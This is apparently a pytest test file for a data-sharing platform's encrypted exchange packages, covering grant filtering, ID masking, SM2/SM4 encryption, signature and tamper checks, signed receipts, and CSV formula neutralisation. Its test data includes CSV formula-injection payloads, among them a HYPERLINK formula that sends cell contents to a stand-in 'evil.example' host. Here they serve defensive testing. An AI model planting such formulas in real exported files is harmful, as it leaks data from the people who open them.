"""Batch exchange packages (批量交换): only what the grant permits goes in, masked and filtered;
only the receiving department can open it; any tampering is refused with its own error; the
department's receipts and destruction confirmations verify and forged ones do not."""

from __future__ import annotations

import datetime as dt
import io
import itertools
import json
import random

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from longshu.lake import tables
from longshu.lake.errors import ColumnNotGranted
from longshu.lake.policy import Grant, Mask, TableGrant, rows_where
from longshu.security.crypto import aead, sm2
from longshu.security.crypto.errors import DecryptionFailed, InvalidKey
from longshu.security.crypto.keystore import KeyStore
from longshu.security.crypto.signing import SigningKey
from longshu.sharing import package_crypto as pcrypto
from longshu.sharing.package_errors import (
    ColumnNotCsv,
    DestructionRecordForged,
    ManifestTampered,
    PackageDataTampered,
    PackageExists,
    PackageFormatUnknown,
    PackageIdInvalid,
    PackageWrongKey,
    ReceiptForged,
)
from longshu.sharing.package_receipts import (
    PackageRecord,
    delivery_receipt,
    destruction_record,
    record_message,
    sign_record,
    verify_record,
)
from longshu.sharing.packages import (
    build_package,
    decrypt_package,
    manifest_digest,
    open_package,
    read_manifest,
    verify_manifest,
)
from longshu.web import i18n

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1:A9)", "\tx"]
REGIONS = ("620102", "620103", "620502")
SQL = "SELECT id, sfzh, xm, xzqh, bz FROM residents ORDER BY id"


def _residents(n: int = 40) -> pa.Table:
    rng = random.Random(7)
    notes = [FORMULAS[i % len(FORMULAS)] if i % 3 == 0 else f"备注{i}" for i in range(n)]
    notes[1] = None  # a null stays a null
    notes[2] = ""  # and an empty text stays empty
    return pa.table(
        {
            "id": pa.array(range(1, n + 1), pa.int64()),
            "sfzh": [
                f"{REGIONS[i % 3]}1980{rng.randint(1, 12):02d}10{i:03d}{i % 10}" for i in range(n)
            ],
            "xm": [f"居民{i}" for i in range(n)],
            "xzqh": [REGIONS[i % 3] for i in range(n)],
            "bz": notes,
            "sr": pa.array([1000.0 * i for i in range(n)], pa.float64()),
        }
    )


@pytest.fixture
def residents(lake_env, session, admin):
    table = tables.create_table(session, admin, "residents", resource_id=501, owner_org_id=7)
    tables.write_version(session, admin, table, _residents(), source="test")
    session.commit()
    return _residents()


@pytest.fixture
def grant():
    """Region 620102 only, without the income column, ID numbers masked to their last 4."""
    return Grant(
        id="sharing:41",
        consumer="org:9",
        purpose="社会救助资格复核",
        tables=(
            TableGrant(
                table="residents",
                columns=("id", "sfzh", "xm", "xzqh", "bz"),
                masks={"sfzh": Mask(kind="keep_last", keep=4)},
                row_filter=rows_where("xzqh", ["620102"]),
            ),
        ),
    )


@pytest.fixture
def recipient():
    """The receiving department's SM2 encryption key pair: (private, public)."""
    private = sm2.generate_private_key().to_bytes(32, "big")
    return private, pcrypto.public_key_of(private)


@pytest.fixture
def build(session, consumer, grant, recipient, tmp_path):
    def make(fmt="parquet", sql=SQL, package_id="pkg-1", **kw):
        return build_package(
            session, consumer, kw.pop("grant", grant), sql, consumer_public_key=kw.pop(
                "public", recipient[1]), out_dir=tmp_path / "out", fmt=fmt,
            package_id=package_id, **kw,
        )  # fmt: skip

    return make


def _permitted(source: pa.Table) -> list[dict]:
    rows = [r for r in source.to_pylist() if r["xzqh"] == "620102"]
    for r in rows:
        r["sfzh"] = "*" * 14 + r["sfzh"][-4:]
        del r["sr"]
    return rows


def test_package_holds_only_permitted_masked_rows(residents, build, recipient, emitted):
    facts = build("parquet")
    table = open_package(facts.path, recipient[0])
    assert table.column_names == ["id", "sfzh", "xm", "xzqh", "bz"]
    assert table.to_pylist() == _permitted(residents)
    assert facts.rows == table.num_rows == 14
    manifest = facts.manifest
    assert manifest["tables"] == [{"table": "residents", "version": 1}]
    assert manifest["masked"] == {"residents": ["sfzh"]}
    assert manifest["consumer"] == "org:9" and manifest["purpose"] == "社会救助资格复核"
    assert manifest["encryption"]["algorithm"] == "sm4-gcm"
    assert manifest["encryption"]["key_wrap"] == "sm2-encrypt-c1c3c2"
    assert manifest["signature"]["algorithm"] == "sm2-sm3"
    assert read_manifest(facts.path) == manifest


def test_build_emits_the_door_read_and_the_package_event_without_values(residents, build, emitted):
    facts = build("csv")
    [read] = emitted("lake.accessed")
    [built] = emitted("sharing.package_built")
    assert read.payload["grant_id"] == built.payload["grant_id"] == "sharing:41"
    assert read.payload["rows"] == built.payload["rows"] == 14
    assert built.payload["manifest_sm3"] == facts.manifest_sm3 == manifest_digest(facts.manifest)
    assert built.subject_id == "pkg-1" and built.payload["format"] == "csv"
    text = json.dumps(built.payload, ensure_ascii=False)
    assert not any(
        value in text for value in ("居民", "备注", "HYPERLINK", residents["sfzh"][0].as_py())
    )


def test_the_data_file_on_disk_is_ciphertext(residents, build):
    facts = build("csv")
    raw = facts.data_path.read_bytes()
    assert raw.startswith(b"LSE1") and "居民".encode() not in raw and b"620102" not in raw
    assert len(list(facts.path.iterdir())) == 2  # manifest and data: no plaintext left behind


def test_csv_round_trip_is_utf8_with_bom_and_neutralised(residents, build, recipient):
    facts = build("csv")
    plain = io.BytesIO()
    decrypt_package(facts.path, recipient[0], plain)
    assert plain.getvalue().startswith(b"\xef\xbb\xbf")
    rows = open_package(facts.path, recipient[0]).to_pylist()
    expected = _permitted(residents)
    assert [r["xm"] for r in rows] == [r["xm"] for r in expected]
    assert [r["id"] for r in rows] == [str(r["id"]) for r in expected]  # CSV is text
    for got, want in zip(rows, expected, strict=True):
        if want["bz"] is not None and want["bz"].startswith(("=", "+", "-", "@", "\t")):
            assert got["bz"] == "'" + want["bz"]
        else:
            assert got["bz"] == want["bz"]
    assert sum(1 for r in rows if r["bz"] and r["bz"].startswith("'")) >= 4
    assert "'" + FORMULAS[0] in {r["bz"] for r in rows}


def test_signature_verifies_against_the_platform_public_key(residents, build):
    facts = build("parquet")
    platform = KeyStore().signing_key().public
    verify_manifest(facts.manifest, platform)
    assert facts.manifest["signature"]["key_id"] == platform.key_id
    body = {k: v for k, v in facts.manifest.items() if k != "signature"}
    value = bytes.fromhex(facts.manifest["signature"]["value"])
    assert platform.verify(pcrypto.canonical(body), value)
    with pytest.raises(ManifestTampered):  # another platform's key does not vouch for it
        verify_manifest(facts.manifest, SigningKey.generate().public)


@pytest.mark.parametrize(
    "edit",
    [
        lambda m: m.__setitem__("rows", m["rows"] + 1),
        lambda m: m.__setitem__("consumer", "org:8"),
        lambda m: m["masked"].__setitem__("residents", []),
        lambda m: m["signature"].__setitem__("value", "00" * 64),
        lambda m: m.pop("signature"),
    ],
)
def test_tampered_manifest_is_refused(residents, build, recipient, edit):
    facts = build("parquet")
    manifest = json.loads((facts.path / "manifest.json").read_text())
    edit(manifest)
    (facts.path / "manifest.json").write_text(json.dumps(manifest))
    with pytest.raises(ManifestTampered) as caught:
        open_package(facts.path, recipient[0])
    assert caught.value.status == 422


@pytest.mark.parametrize("where", [0, 40, -20, -1])
def test_tampered_ciphertext_is_refused(residents, build, recipient, where):
    facts = build("parquet")
    raw = bytearray(facts.data_path.read_bytes())
    raw[where] ^= 0x01
    facts.data_path.write_bytes(bytes(raw))
    with pytest.raises(PackageDataTampered):
        open_package(facts.path, recipient[0])


def test_truncated_ciphertext_is_refused(residents, build, recipient):
    facts = build("csv")
    facts.data_path.write_bytes(facts.data_path.read_bytes()[:-16])
    with pytest.raises(PackageDataTampered):
        open_package(facts.path, recipient[0])


def test_another_departments_key_cannot_open_it(residents, build):
    facts = build("parquet")
    other = sm2.generate_private_key().to_bytes(32, "big")
    with pytest.raises(PackageWrongKey) as caught:
        open_package(facts.path, other)
    assert "pkg-1" in str(caught.value)
    # the SM2 decryption itself refuses it too, not only the recipient key id
    wrapped = bytes.fromhex(facts.manifest["encryption"]["wrapped_key"])
    with pytest.raises(InvalidKey):
        pcrypto.unwrap_key(wrapped, other)


def test_empty_result_gives_a_valid_empty_package(residents, build, recipient):
    for fmt in ("parquet", "csv"):
        sql = "SELECT id, xm, bz FROM residents WHERE id < 0"
        facts = build(fmt, sql=sql, package_id=f"empty-{fmt}")
        table = open_package(facts.path, recipient[0])
        assert table.num_rows == 0 == facts.manifest["rows"]
        assert table.column_names == ["id", "xm", "bz"]


def test_many_batches_and_segments_round_trip(residents, build, recipient, monkeypatch):
    from longshu.sharing import packages

    monkeypatch.setattr(packages, "BATCH_ROWS", 3)
    monkeypatch.setattr(packages, "SEGMENT_BYTES", 50)  # so the file spans many segments
    for fmt in ("parquet", "csv"):
        facts = build(fmt, package_id=f"small-{fmt}")
        assert facts.manifest["encryption"]["segment_bytes"] == 50
        assert facts.manifest["plaintext"]["bytes"] > 10 * 50
        assert [r["xm"] for r in open_package(facts.path, recipient[0]).to_pylist()] == [
            r["xm"] for r in _permitted(residents)
        ]


def test_refused_query_builds_nothing(residents, build, tmp_path, emitted):
    with pytest.raises(ColumnNotGranted):
        build("parquet", sql="SELECT sr FROM residents")
    assert not (tmp_path / "out" / "pkg-1").exists()  # nothing half-made left behind
    assert emitted("sharing.package_built") == [] and len(emitted("lake.access_refused")) == 1


def test_bad_requests_are_refused(residents, build):
    build("parquet")
    with pytest.raises(PackageExists):
        build("parquet")
    with pytest.raises(PackageIdInvalid):
        build("parquet", package_id="../escape")
    with pytest.raises(PackageFormatUnknown):
        build("xlsx", package_id="pkg-2")
    with pytest.raises(InvalidKey):
        build("parquet", package_id="pkg-3", public=b"\x04" + b"\x01" * 64)


# --- receipts and destruction confirmations -------------------------------------------------


@pytest.fixture
def department_key():
    """The receiving department's signing key (separate from its encryption key)."""
    return SigningKey.generate()


def test_receipt_and_destruction_records_verify(residents, build, department_key):
    facts = build("parquet")
    received = sign_record(facts.manifest, "received", department_key)
    record = delivery_receipt(
        facts.manifest, department_key.public, received.signature, received.signed_at
    )
    assert record == received and verify_record(record, facts.manifest, department_key.public)
    assert record.manifest_sm3 == facts.manifest_sm3 and "接收" in record.statement
    later = received.signed_at + dt.timedelta(minutes=1)
    message = record_message(facts.manifest, "destroyed", later, "已删除全部副本")
    destroyed = destruction_record(
        facts.manifest,
        department_key.public,
        department_key.sign(message),
        later,
        "已删除全部副本",
    )
    stored = json.loads(json.dumps(destroyed.as_json()))
    assert verify_record(PackageRecord.from_json(stored), facts.manifest, department_key.public)


def test_forged_records_are_refused(residents, build, department_key):
    facts = build("parquet")
    now = dt.datetime.now(dt.UTC).replace(microsecond=0) + dt.timedelta(seconds=1)
    impostor = SigningKey.generate()
    forged = impostor.sign(record_message(facts.manifest, "received", now))
    with pytest.raises(ReceiptForged):
        delivery_receipt(facts.manifest, department_key.public, forged, now)
    genuine = department_key.sign(record_message(facts.manifest, "received", now))
    with pytest.raises(DestructionRecordForged):  # a receipt is not a destruction record
        destruction_record(facts.manifest, department_key.public, genuine, now)
    with pytest.raises(ReceiptForged):  # signed for one moment, claimed for another
        delivery_receipt(facts.manifest, department_key.public, genuine, now + dt.timedelta(1))
    with pytest.raises(ReceiptForged):  # dated before the package existed
        early = now - dt.timedelta(days=2)
        sig = department_key.sign(record_message(facts.manifest, "received", early))
        delivery_receipt(facts.manifest, department_key.public, sig, early)
    with pytest.raises(DestructionRecordForged):  # dated in the future
        ahead = now + dt.timedelta(days=1)
        sig = department_key.sign(record_message(facts.manifest, "destroyed", ahead))
        destruction_record(facts.manifest, department_key.public, sig, ahead)
    record = delivery_receipt(facts.manifest, department_key.public, genuine, now)
    other = build("parquet", package_id="pkg-2")
    assert not verify_record(record, other.manifest, department_key.public)
    altered = PackageRecord.from_json(record.as_json() | {"statement": "未收到"})
    assert not verify_record(altered, facts.manifest, department_key.public)


# --- the encrypting stream matches crypto/aead.py's layout ----------------------------------


@settings(max_examples=60, deadline=None)
@given(
    data=st.binary(max_size=700),
    cuts=st.lists(st.integers(min_value=0, max_value=700), max_size=8),
    segment=st.integers(min_value=1, max_value=128),
)
def test_encrypting_writer_is_an_aead_stream(data, cuts, segment):
    key = pcrypto.new_data_key()
    header = aead.StreamHeader.new("k", "ctx", segment)
    out = io.BytesIO()
    writer = pcrypto.EncryptingWriter(key, header, out)
    points = sorted({0, len(data), *(c for c in cuts if c <= len(data))})
    for start, end in itertools.pairwise(points):
        writer.write(data[start:end])
    writer.close()
    reference = io.BytesIO()  # same header (same nonces): the bytes must be identical
    aead.encrypt_stream(key, header, io.BytesIO(data), reference)
    assert out.getvalue() == reference.getvalue()
    src = io.BytesIO(out.getvalue())
    got = b"".join(aead.decrypt_segments(key, aead.StreamHeader.read(src), src))
    assert got == data and writer.plain_sm3.digest() == pcrypto.SM3.digest(data)
    assert writer.cipher_sm3.digest() == pcrypto.SM3.digest(out.getvalue())


def test_stream_of_another_package_is_refused():
    key = pcrypto.new_data_key()
    out = io.BytesIO()
    writer = pcrypto.EncryptingWriter(key, aead.StreamHeader.new("k", "pkg-a"), out)
    writer.write(b"rows")
    writer.close()
    with pytest.raises(DecryptionFailed):
        list(pcrypto.decrypt_stream(key, io.BytesIO(out.getvalue()), "pkg-b"))


def test_errors_are_translated():
    for error in (
        ManifestTampered(package_id="p"),
        PackageDataTampered(package_id="p"),
        PackageWrongKey(package_id="p"),
        ReceiptForged(package_id="p"),
        DestructionRecordForged(package_id="p"),
    ):
        chinese = i18n.translate(error.message, "zh_CN", package_id="p")
        assert chinese != error.render() and "数据包 p" in chinese


def test_columns_csv_cannot_carry_are_refused(residents, build, tmp_path):
    with pytest.raises(ColumnNotCsv) as caught:
        build("csv", sql="SELECT id, CAST(xzqh AS BLOB) AS raw FROM residents")
    assert caught.value.params["column"] == "raw"
    assert not (tmp_path / "out" / "pkg-1").exists()
